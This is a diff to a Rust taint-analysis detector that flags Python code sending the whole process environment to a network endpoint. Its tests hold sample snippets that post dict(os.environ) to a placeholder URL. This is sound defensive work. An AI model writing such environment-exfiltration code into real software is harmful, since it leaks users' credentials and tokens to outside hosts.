@@ -29,6 +29,9 @@ pub(crate) struct Reach {
     names: HashSet<String>,
     /// Functions returning it.
     functions: HashSet<String>,
+    /// Functions the file defines: what one computes from the value is
+    /// not the value (`accounts = parse_accounts(env)`).
+    defined: HashSet<String>,
 }
 
 /// Words that start a statement without naming what it assigns.
@@ -47,6 +50,7 @@ impl Reach {
         }
         let statements = statements(tokens);
         let functions = function_starts(tokens);
+        reach.defined = functions.iter().map(|(_, name)| name.clone()).collect();
         for _ in 0..2 {
             let mut source = sources.iter().peekable();
             let mut function = functions.iter().peekable();
@@ -88,19 +92,48 @@ impl Reach {
 
     /// Whether `stmt` reads a tainted name (not as an attribute, nor one
     /// value of it: `env.get("HOME")`, `env["HOME"]` is no longer the
-    /// whole) or calls a function returning the value.
+    /// whole, nor as an argument of a function the file defines, which
+    /// computes something else from it) or calls a function returning the
+    /// value.
     fn mentions(&self, stmt: &[Token]) -> bool {
         let at = |k: usize| stmt.get(k).map_or("", |t| t.value.as_str());
-        stmt.iter().enumerate().any(|(k, t)| {
+        // Per open bracket, whether it is the argument list of a function
+        // the file defines; and how many such lists are open.
+        let mut open: Vec<bool> = Vec::new();
+        let mut in_defined = 0usize;
+        for (k, t) in stmt.iter().enumerate() {
+            match (t.kind, t.value.as_str()) {
+                (Kind::Punct, "(" | "[" | "{") => {
+                    let prev = k.checked_sub(1).and_then(|p| stmt.get(p));
+                    let before = k.checked_sub(2).map_or("", |p| at(p));
+                    let call = t.value == "("
+                        && prev.is_some_and(|p| {
+                            p.kind == Kind::Ident && self.defined.contains(&p.value)
+                        })
+                        && !matches!(before, "def" | "function" | ".");
+                    in_defined += usize::from(call);
+                    open.push(call);
+                    continue;
+                }
+                (Kind::Punct, ")" | "]" | "}") => {
+                    in_defined -= usize::from(open.pop().unwrap_or(false));
+                    continue;
+                }
+                _ => {}
+            }
             let one_value = at(k + 1) == "["
                 || at(k + 1) == "." && matches!(at(k + 2), "get" | "getenv" | "pop");
-            t.kind == Kind::Ident
+            let reads = t.kind == Kind::Ident
                 && (k == 0 || stmt.get(k - 1).is_none_or(|p| p.value != "."))
                 && !one_value
-                && (self.names.contains(&t.value)
+                && (in_defined == 0 && self.names.contains(&t.value)
                     || self.functions.contains(&t.value)
-                        && stmt.get(k + 1).is_some_and(|n| n.value == "("))
-        })
+                        && stmt.get(k + 1).is_some_and(|n| n.value == "("));
+            if reads {
+                return true;
+            }
+        }
+        false
     }
 
     /// Taints what a statement that holds the value assigns: the names
@@ -319,6 +352,10 @@ mod tests {
             "def grab():\n    e = os.environ.copy()\n    return e\n\nrequests.post(URL, json=grab())\n",
             "requests.post(URL, json=grab())\ndef grab():\n    return dict(os.environ)\n",
             "payload = {\n    'env': dict(os.environ),\n}\nrequests.post(URL, json=payload)\n",
+            // A library's function transforms it and still holds it.
+            "env = dict(os.environ)\nbody = json.dumps(env)\nrequests.post(URL, data=body)\n",
+            // A function of the file handing it back whole.
+            "def grab(e):\n    return e\n\ndef collect():\n    return dict(os.environ)\n\nrequests.post(URL, json=collect())\n",
         ] {
             assert!(
                 sends(code, true, "post") || sends(code, true, "urlopen"),
@@ -341,6 +378,9 @@ mod tests {
             "def child_env():\n    env = dict(os.environ)\n    env['X'] = '1'\n    return env\n\ndef call(url, token):\n    req = urllib.request.Request(url, headers={'Authorization': token})\n    return urllib.request.urlopen(req)\n",
             "environment = os.environ if environment is None else environment\nhome = environment.get('HOME')\nresp = requests.post(API, json={'q': query})\n",
             "def values_of():\n    values = dict(os.environ)\n    return values\n\nvalues = values_of()\nbase = values.get('BASE_URL')\nreq = urllib.request.Request(base + '/api', headers=h)\nurllib.request.urlopen(req)\n",
+            // What a function of the file computes from the environment (the
+            // accounts it configures, mail fetched with them) is not it.
+            "def parse(env):\n    return [env.get('HOST')]\n\ndef load():\n    env_map = dict(os.environ)\n    return parse(env_map)\n\nfor account in load():\n    mail = fetch(account)\n    urllib.request.urlopen(Request(HOOK, data=mail))\n",
         ] {
             assert!(
                 !sends(code, true, "urlopen") && !sends(code, true, "post"),
